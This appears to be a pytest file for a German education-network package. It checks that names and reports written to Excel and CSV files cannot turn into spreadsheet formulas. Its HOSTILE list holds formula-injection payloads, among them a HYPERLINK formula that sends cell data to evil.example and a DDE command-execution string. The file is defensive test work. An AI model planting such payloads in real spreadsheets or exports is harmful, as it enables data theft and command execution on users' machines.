"""Formula injection: no text bildungsnetz writes to a workbook or CSV file is a formula."""

import csv
import re
import zipfile

import pytest

from bildungsnetz import Actor, find_gaps, io
from bildungsnetz.datasets import musterkreis
from bildungsnetz.gaps import transition_matrix
from bildungsnetz.io._formulas import formula_like

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Details")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\uff1d1+1",  # fullwidth equals sign
    "\ufe661+1",  # small equals sign
    "\uff0b1",  # fullwidth plus
    "\uff0d1",  # fullwidth hyphen-minus
    "\uff20SUM(1)",  # fullwidth commercial at
    "\u22121+1",  # minus sign
]
BENIGN = ["GS Am Markt", "a=b", "Kita 3-4", "1 + 1", "", "'", "\u00bd"]
hostile = pytest.mark.parametrize("text", HOSTILE)


@pytest.mark.parametrize("text", [*HOSTILE, "\t=1", "\r=1", " =1", "\u3000=1", "\u00a0+1"])
def test_every_formula_start_is_recognised(text):
    """ASCII, fullwidth and small signs, after blanks, tab and carriage return: formulas."""
    assert formula_like(text)


@pytest.mark.parametrize("text", BENIGN)
def test_ordinary_text_is_no_formula(text):
    """Names with signs inside, and empty text, are left as they are."""
    assert not formula_like(text)


def hostile_network():
    """Musterkreis named like a formula, each school's name starting with one of HOSTILE."""
    network = musterkreis()
    schools = [actor.id for actor in network.actors if actor.kind == "school"]
    assert len(schools) >= len(HOSTILE)
    names = {school: f"{HOSTILE[i % len(HOSTILE)]} {school}" for i, school in enumerate(schools)}
    actors = tuple(
        Actor.model_validate({**actor.model_dump(), "name": names[actor.id]})
        if actor.id in names
        else actor
        for actor in network.actors
    )
    return network.replace(name=HOSTILE[0], actors=actors)


NETWORK = hostile_network()


@pytest.fixture(scope="module")
def report_frame():
    return find_gaps(NETWORK).to_frame()


def formula_cells(path):
    """Return the formulas in the worksheets of an .xlsx file, read from its XML."""
    with zipfile.ZipFile(path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        return [
            found
            for name in sheets
            for found in re.findall(rb"<(?:\w+:)?f[ >].*?</(?:\w+:)?f>", archive.read(name))
        ]


def assert_text_cells_with_quote_prefix(path):
    """Every cell starting with a hostile text is a text cell with the quote prefix."""
    import openpyxl

    book = openpyxl.load_workbook(path)
    found = {
        text: [
            cell
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if isinstance(cell.value, str) and cell.value.startswith(text)
        ]
        for text in HOSTILE
    }
    assert all(found.values())
    cells = [cell for cells in found.values() for cell in cells]
    assert {(cell.data_type, cell.quotePrefix) for cell in cells} == {("s", True)}


def csv_cells(path, column=None):
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=";"))[1:]
    return [cell for row in rows for cell in (row if column is None else [row[column]])]


def assert_protected(cells):
    """No cell looks like a formula; each hostile text is there, after an apostrophe."""
    # A negative number (a score) is a number to Excel, which is what it is.
    texts = [cell for cell in cells if not re.fullmatch(r"-[0-9]+(,[0-9]+)?", cell)]
    assert [cell for cell in texts if formula_like(cell)] == []
    for text in HOSTILE:
        assert any(cell.startswith(f"'{text}") for cell in cells), text


@pytest.mark.requires_extra("excel")
def test_write_workbook_writes_hostile_names_as_text(tmp_path):
    """Hostile network and school names: text cells with quote prefix, no formula, same data."""
    path = tmp_path / "netz.xlsx"
    io.write_workbook(NETWORK, path, lang="de")
    assert formula_cells(path) == []
    assert_text_cells_with_quote_prefix(path)
    assert io.read_workbook(path) == NETWORK


def test_write_csv_folder_protects_hostile_names_with_an_apostrophe(tmp_path):
    """Each hostile text starts with an apostrophe in the file; reading removes it."""
    io.write_csv_folder(NETWORK, tmp_path, lang="de")
    assert_protected(csv_cells(tmp_path / "akteure.csv", column=1))
    assert io.read_csv_folder(tmp_path) == NETWORK


@pytest.mark.requires_extra("excel")
def test_write_template_holds_no_formula_cell(tmp_path):
    """The template, even under a hostile file name, has dropdown rules but no formula cell."""
    path = tmp_path / "=HYPERLINK(1).xlsx"
    io.write_template(path)
    assert formula_cells(path) == []


@pytest.mark.requires_extra("pandas", "excel")
@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_write_frame_keeps_a_report_frame_as_text(tmp_path, report_frame, suffix):
    """Explanations that start with a hostile name stay text in a workbook and a CSV file."""
    starts = [text for text in HOSTILE if report_frame["explanation_de"].str.startswith(text).any()]
    assert starts == HOSTILE
    path = tmp_path / f"befunde{suffix}"
    io.write_frame(report_frame, path)
    if suffix == ".xlsx":
        assert formula_cells(path) == []
        assert_text_cells_with_quote_prefix(path)
    else:
        assert_protected(csv_cells(path))


@pytest.mark.requires_extra("pandas", "excel")
@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_write_frame_keeps_transition_matrix_labels_as_text(tmp_path, suffix):
    """A table's row labels (the index) are written as text, never as formulas."""
    frame = transition_matrix(NETWORK, by="institution").to_frame()
    path = tmp_path / f"matrix{suffix}"
    io.write_frame(frame, path)
    if suffix == ".xlsx":
        assert formula_cells(path) == []
        import openpyxl

        book = openpyxl.load_workbook(path)
        labels = [cell for (cell,) in book.active.iter_rows(min_row=2, max_col=1)]
        hostile_labels = [cell for cell in labels if formula_like(str(cell.value))]
        assert hostile_labels
        assert {(cell.data_type, cell.quotePrefix) for cell in hostile_labels} == {("s", True)}
    else:
        labels = csv_cells(path, column=0)
        assert [label for label in labels if label.startswith("'")]
        assert not [label for label in labels if formula_like(label)]


@pytest.mark.requires_extra("pandas")
def test_write_frame_refuses_other_endings(tmp_path, report_frame):
    """Only .xlsx and .csv are written; nothing is created for another ending."""
    with pytest.raises(ValueError, match=r"\.xlsx or \.csv"):
        io.write_frame(report_frame, tmp_path / "befunde.ods")
    assert list(tmp_path.iterdir()) == []
